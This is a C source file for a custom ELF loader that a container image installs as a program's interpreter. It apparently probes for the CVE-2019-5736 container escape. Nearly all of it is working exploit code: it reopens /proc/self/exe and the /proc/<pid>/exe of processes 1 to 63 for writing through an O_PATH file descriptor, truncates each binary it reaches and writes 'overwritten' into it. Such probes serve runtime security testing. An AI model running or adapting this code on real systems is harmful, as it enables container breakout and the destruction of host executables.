/* A loader (PT_INTERP) that an image gives to whatever program the kernel executes inside. It has no C library:
 * the kernel starts it in the place of the real one. It tries to write the programs of all processes. */
#include <sys/syscall.h>

enum { O_PATH = 010000000, FOR_WRITING = 1, TRUNCATED = 2 | 01000, MOST = 64 };

static long call(long number, long a, long b, long c) {
  long result;
#if defined __x86_64__
  __asm__ volatile("syscall" : "=a"(result) : "a"(number), "D"(a), "S"(b), "d"(c) : "rcx", "r11", "memory");
#else
#error "not written for this architecture"
#endif
  return result;
}

static void say(const char *text) {
  long length = 0;
  while (text[length]) length++;
  call(SYS_write, 1, (long)text, length);
}

static char *digits(char text[24], long value) {
  int at = 23;
  unsigned long rest = value < 0 ? (unsigned long)-value : (unsigned long)value;
  text[at] = 0;
  do text[--at] = (char)('0' + rest % 10);
  while ((rest /= 10) && at > 1);
  if (value < 0) text[--at] = '-';
  return text + at;
}

static void number(long value) {
  char text[24];
  say(" ");
  say(digits(text, value));
}

/* Opened as it is, and as CVE-2019-5736 does: by O_PATH, then again for writing. */
static void overwrite(const char *path) {
  number(call(SYS_open, (long)path, FOR_WRITING, 0));
  number(call(SYS_open, (long)path, TRUNCATED, 0));
  long fd = call(SYS_open, (long)path, O_PATH, 0);
  char again[] = "/proc/self/fd/0";
  if (fd < 0 || fd > 9) return;
  again[14] = (char)('0' + fd);
  long opened = call(SYS_open, (long)again, TRUNCATED, 0);
  number(opened);
  if (opened >= 0) call(SYS_write, opened, (long)"overwritten", 11);
  call(SYS_close, fd, 0, 0);
}

void _start(void) {
  char path[256], text[24];
  long length = call(SYS_readlink, (long)"/proc/self/exe", (long)path, sizeof path - 1);
  path[length > 0 ? length : 0] = 0;
  say("loader of ");
  say(path);
  say(":");
  overwrite("/proc/self/exe");
  for (long pid = 1; pid < MOST; pid++) {
    char *from = digits(text, pid), *to = path;
    for (const char *part = "/proc/"; *part;) *to++ = *part++;
    while (*from) *to++ = *from++;
    for (const char *part = "/exe"; *part;) *to++ = *part++;
    *to = 0;
    if (call(SYS_access, (long)path, 0, 0) == 0) overwrite(path);
  }
  say("\n");
  call(SYS_exit_group, 1, 0, 0);
}
